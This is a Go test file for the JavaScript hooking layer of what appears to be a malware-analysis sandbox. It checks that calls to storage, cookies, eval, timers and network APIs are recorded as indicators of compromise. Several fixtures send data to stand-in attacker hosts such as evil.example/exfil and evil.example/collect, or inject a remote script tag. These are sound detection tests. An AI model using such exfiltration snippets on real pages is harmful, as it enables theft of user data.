package hooks

import (
	"context"
	"errors"
	"math"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/GriffinCanCode/malsmug/internal/bridge"
	"github.com/GriffinCanCode/malsmug/internal/ioc"
	"github.com/GriffinCanCode/malsmug/internal/logging"
	"github.com/GriffinCanCode/malsmug/internal/sandbox"
	"github.com/GriffinCanCode/malsmug/internal/sandbox/netclient"
)

type fixture struct {
	s     *sandbox.Session
	col   *bridge.Collector
	names bridge.Names
}

func newSession(t *testing.T, client netclient.Client) *sandbox.Session {
	t.Helper()
	if client == nil {
		client = netclient.Offline{}
	}
	host := sandbox.NewHost(sandbox.Options{EvalTimeout: 2 * time.Second}, client, nil, nil, nil)
	s, err := host.Launch(context.Background())
	require.NoError(t, err)
	t.Cleanup(func() { _ = s.Close() })
	return s
}

func hooked(t *testing.T, client netclient.Client) *fixture {
	t.Helper()
	ctx := context.Background()
	s := newSession(t, client)
	col := bridge.NewCollector(nil, nil)
	names := bridge.NewNames()
	require.NoError(t, s.ExposeCallback(ctx, names.Bridge, col.Handler()))
	require.NoError(t, Install(ctx, s, names, nil))
	return &fixture{s: s, col: col, names: names}
}

func (f *fixture) eval(t *testing.T, src string) any {
	t.Helper()
	v, err := f.s.Evaluate(context.Background(), src)
	require.NoError(t, err)
	return v
}

func payloads(col *bridge.Collector) []ioc.Payload {
	var out []ioc.Payload
	for _, i := range col.Snapshot() {
		out = append(out, i.Payload)
	}
	return out
}

func TestStorageScenario(t *testing.T) {
	f := hooked(t, nil)

	f.eval(t, `localStorage.setItem("a", "b")`)
	assert.Equal(t, []ioc.Payload{
		ioc.FunctionCall{Callee: "localStorage.setItem", Arguments: []string{"a", "b"}},
	}, payloads(f.col))

	assert.Equal(t, "b", f.eval(t, `localStorage.getItem("a")`))
	assert.Equal(t, ioc.FunctionCall{Callee: "localStorage.getItem", Arguments: []string{"a"}}, payloads(f.col)[1])

	f.eval(t, `sessionStorage.setItem("s", "1")`)
	assert.Equal(t, ioc.FunctionCall{Callee: "sessionStorage.setItem", Arguments: []string{"s", "1"}}, payloads(f.col)[2])
}

func TestCookieScenario(t *testing.T) {
	f := hooked(t, nil)

	f.eval(t, `document.cookie = "x=1"`)
	got := f.eval(t, `document.cookie`)
	assert.Equal(t, "x=1; ", got)

	require.Len(t, payloads(f.col), 2)
	assert.Equal(t, ioc.SetCookie{Cookie: "x=1"}, payloads(f.col)[0])
	get := payloads(f.col)[1].(ioc.GetCookie)
	assert.Contains(t, get.Cookie, "x=1; ")

	f.eval(t, `document.cookie = "y=2"`)
	assert.Equal(t, "x=1; y=2; ", f.eval(t, `document.cookie`))
}

func TestNetworkHooks(t *testing.T) {
	f := hooked(t, nil)

	f.eval(t, `fetch("https://evil.example/exfil")`)
	f.eval(t, `
		var x = new XMLHttpRequest();
		x.open("post", "https://evil.example/collect");
		x.send("user=1");
	`)
	f.eval(t, `open("https://evil.example/popup")`)

	assert.Equal(t, []ioc.Payload{
		ioc.HTTPRequest{Method: "GET", URL: "https://evil.example/exfil"},
		ioc.HTTPRequest{Method: "POST", URL: "https://evil.example/collect"},
		ioc.HTTPRequest{Method: "POST", URL: "https://evil.example/collect", Data: "user=1"},
		ioc.HTTPRequest{Method: "GET", URL: "https://evil.example/popup"},
	}, payloads(f.col)[:4])
}

func TestEvalHook(t *testing.T) {
	f := hooked(t, nil)

	assert.Equal(t, int64(2), f.eval(t, `eval("1 + 1")`))
	assert.Equal(t, ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"1 + 1"}}, payloads(f.col)[0])

	assert.Equal(t, int64(3), f.eval(t, `eval("var fromEval = 3"); fromEval`))
	assert.Equal(t, "function eval() { [native code] }", f.eval(t, `eval.toString()`))
}

func TestEvalKeepsCallerScope(t *testing.T) {
	f := hooked(t, nil)

	assert.Equal(t, int64(42), f.eval(t, `(function () { var a = 41; return eval("a + 1"); })()`))
	assert.Equal(t, int64(7), f.eval(t, `(function (k) { eval("var local = k + 2"); return local; })(5)`))
	assert.Equal(t, int64(3), f.eval(t, `eval("eval('1 + 2')")`))
	assert.Equal(t, "g", f.eval(t, `var who = "g"; (function () { var who = "l"; return window.eval("who"); })()`))
	assert.Equal(t, "no-arg", f.eval(t, `typeof eval() === "undefined" ? "no-arg" : "arg"`))
	assert.Equal(t, int64(5), f.eval(t, `eval(5)`))

	fn := `function () { return eval("1"); }`
	assert.Equal(t, fn, f.eval(t, `(`+fn+`).toString()`))

	assert.Equal(t, []ioc.Payload{
		ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"a + 1"}},
		ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"var local = k + 2"}},
		ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"eval('1 + 2')"}},
		ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"1 + 2"}},
		ioc.FunctionCall{Callee: "window.eval", Arguments: []string{"who"}},
	}, payloads(f.col))
}

// The bridge stays reachable through getOwnPropertyNames; what protects it
// is a name drawn fresh per run and a property that is neither enumerable
// nor writable.
func TestBridgeProperty(t *testing.T) {
	f := hooked(t, nil)
	other := hooked(t, nil)
	assert.NotEqual(t, f.names.Bridge, other.names.Bridge)

	desc := `Object.getOwnPropertyDescriptor(this, "` + f.names.Bridge + `")`
	assert.Equal(t, false, f.eval(t, desc+`.enumerable`))
	assert.Equal(t, false, f.eval(t, desc+`.writable`))
	assert.Equal(t, false, f.eval(t, `Object.keys(this).indexOf("`+f.names.Bridge+`") >= 0`))

	f.eval(t, `this["`+f.names.Bridge+`"] = function () {}`)
	f.eval(t, `localStorage.setItem("k", "v")`)
	assert.Equal(t, 1, f.col.Len())
}

func TestScriptingTimersAndListeners(t *testing.T) {
	f := hooked(t, nil)

	f.eval(t, `document.write("<p>hi</p>")`)
	f.eval(t, `setTimeout(function () {}, 1500, "extra")`)
	f.eval(t, `setInterval(function () {}, 100000)`)
	f.eval(t, `
		document.addEventListener("click", function () {});
		addEventListener("load", function () {});
		document.body.addEventListener("keydown", function () {});
	`)

	got := payloads(f.col)
	require.Len(t, got, 5)
	assert.Equal(t, ioc.FunctionCall{Callee: "document.write", Arguments: []string{"<p>hi</p>"}}, got[0])

	st := got[1].(ioc.SetTimeout)
	assert.Equal(t, int64(1500), st.Delay)
	require.Len(t, st.Arguments, 2)
	assert.Contains(t, st.Arguments[0], "function")
	assert.Equal(t, "extra", st.Arguments[1])

	assert.Equal(t, []ioc.Payload{
		ioc.AddEventListener{Listener: "click"},
		ioc.AddEventListener{Listener: "load"},
		ioc.AddEventListener{Listener: "keydown"},
	}, got[2:])
}

func TestSetTimeoutRecordsRequestedDelay(t *testing.T) {
	tests := []struct {
		delay string
		want  int64
	}{
		{delay: "2147483648", want: 1 << 31},
		{delay: "1e13", want: 1e13},
		{delay: "Infinity", want: math.MaxInt64},
		{delay: "-5", want: -5},
	}
	for _, tt := range tests {
		t.Run(tt.delay, func(t *testing.T) {
			f := hooked(t, nil)
			f.eval(t, `setTimeout(function () {}, `+tt.delay+`)`)

			got := payloads(f.col)
			require.Len(t, got, 1)
			assert.Equal(t, tt.want, got[0].(ioc.SetTimeout).Delay)
		})
	}
}

func TestInsertionHook(t *testing.T) {
	f := hooked(t, nil)

	f.eval(t, `
		var d = document.createElement("div");
		var s = document.createElement("script");
		s.src = "https://cdn.evil.example/x.js";
		d.appendChild(s);
		document.body.appendChild(d);
		var frm = document.createElement("form");
		frm.action = "https://evil.example/post";
		document.body.appendChild(frm);
		document.body.appendChild(document.createElement("span"));
	`)

	assert.Equal(t, []ioc.Payload{
		ioc.NewNetworkHTMLElement{ElementType: "script", Src: "https://cdn.evil.example/x.js"},
		ioc.NewNetworkHTMLElement{ElementType: "form", Src: "https://evil.example/post"},
	}, payloads(f.col))
}

func TestTransparency(t *testing.T) {
	programs := []string{
		`localStorage.setItem("k", "v"); localStorage.getItem("k")`,
		`localStorage.getItem("missing")`,
		`document.cookie = "a=1"; document.cookie = "b=2"; document.cookie`,
		`typeof eval("(function () { return 5 })")`,
		`eval("var zz = 3"); zz`,
		`(function () { var a = 41; return eval("a + 1"); })()`,
		`(function () { "use strict"; var s = 1; return eval("var s = 2; s"); })()`,
		`try { eval("throw new Error('inner')") } catch (e) { e.message }`,
		`typeof setTimeout(function () {}, 0)`,
		`document.write("<b>x</b>"); document.body.innerHTML`,
	}
	for _, src := range programs {
		t.Run(src, func(t *testing.T) {
			plain := newSession(t, nil)
			want, wantErr := plain.Evaluate(context.Background(), src)

			f := hooked(t, nil)
			got, gotErr := f.s.Evaluate(context.Background(), src)

			assert.Equal(t, wantErr, gotErr)
			assert.Equal(t, want, got)
			assert.NotZero(t, f.col.Len())
		})
	}
}

type fakeStorage struct{ values map[string]string }

func (s *fakeStorage) GetItem(_ sandbox.StorageArea, key string) (string, bool) {
	v, ok := s.values[key]
	return v, ok
}
func (s *fakeStorage) SetItem(_ sandbox.StorageArea, key, value string) { s.values[key] = value }
func (s *fakeStorage) RemoveItem(_ sandbox.StorageArea, key string)     { delete(s.values, key) }
func (s *fakeStorage) Clear(sandbox.StorageArea)                        { s.values = map[string]string{} }
func (s *fakeStorage) Keys(sandbox.StorageArea) []string                { return nil }

func TestHookFailureIsSwallowed(t *testing.T) {
	r := &reporter{send: func(any) { panic("bridge gone") }, log: logging.NewNop()}
	next := &fakeStorage{values: map[string]string{}}
	h := storageHook{next: next, r: r}

	assert.NotPanics(t, func() { h.SetItem(sandbox.LocalStorage, "a", "b") })
	v, ok := h.GetItem(sandbox.LocalStorage, "a")
	assert.True(t, ok)
	assert.Equal(t, "b", v)
}

func TestInstallRequiresBridge(t *testing.T) {
	s := newSession(t, nil)
	err := Install(context.Background(), s, bridge.NewNames(), nil)
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrInstall))
	assert.True(t, errors.Is(err, sandbox.ErrNoCallback))
}

func TestSuspiciousDownloadEndToEnd(t *testing.T) {
	zipBody := append([]byte("PK\x03\x04"), make([]byte, 64)...)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/zip")
		_, _ = w.Write(zipBody)
	}))
	defer srv.Close()

	f := hooked(t, netclient.New(netclient.Options{Timeout: time.Second}))
	Observe(f.s, Interceptor{Denylist: NewDenylist()}, f.col.Report, nil)

	f.eval(t, `fetch("`+srv.URL+`/payload.zip")`)
	require.Eventually(t, func() bool {
		for _, i := range f.col.Snapshot() {
			if i.Kind() == ioc.KindSuspiciousFileDownload {
				return true
			}
		}
		return false
	}, 2*time.Second, 10*time.Millisecond)

	res := &ioc.AnalysisResult{IoCs: f.col.Snapshot()}
	dl := res.OfKind(ioc.KindSuspiciousFileDownload)
	require.Len(t, dl, 1)
	p := dl[0].Payload.(ioc.SuspiciousFileDownload)
	assert.Equal(t, "zip", p.Extension)
	assert.Equal(t, zipBody, p.Content)
	assert.Equal(t, 1, res.Count(ioc.KindHTTPResponse))
}
